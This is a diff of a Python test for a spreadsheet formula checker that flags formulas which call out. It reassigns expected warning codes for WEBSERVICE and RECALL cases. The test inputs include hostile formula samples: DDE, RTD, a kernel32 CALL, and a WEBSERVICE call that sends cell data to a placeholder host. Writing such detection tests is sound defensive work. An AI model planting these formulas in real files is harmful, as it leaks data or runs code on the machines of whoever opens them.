@@ -252,13 +252,13 @@ def with_formula(formula: str) -> dict[str, bytes]:
         ('DDE("soffice","x","a1")', ["KAL806"]),
         ('RTD("prog",,"x")', ["KAL806"]),
         ('1+call("kernel32","x","J")', ["KAL806"]),
-        ('_xlfn.WEBSERVICE("http://x/?"&amp;B3)', ["KAL807"]),
+        ('_xlfn.WEBSERVICE("http://x/?"&amp;B3)', ["KAL812"]),
         ('IF(A1=1,"a|b!c","Call (x)")', []),
         ("'a|b'!A1+'IMAGE (1)'!A1", []),
-        ("RECALL(1)+SUM(A1:A3)", []),
+        ("RECALL(1)+SUM(A1:A3)", ["KAL813"]),
     ],
 )
-def test_kal806_and_kal807_formulas_that_call_out(formula: str, found: list[str]) -> None:
+def test_kal806_and_kal812_formulas_that_call_out(formula: str, found: list[str]) -> None:
     report = judged(with_formula(formula))
     assert w.told(report) == [(code, "Omslag!A5000") for code in found]
 
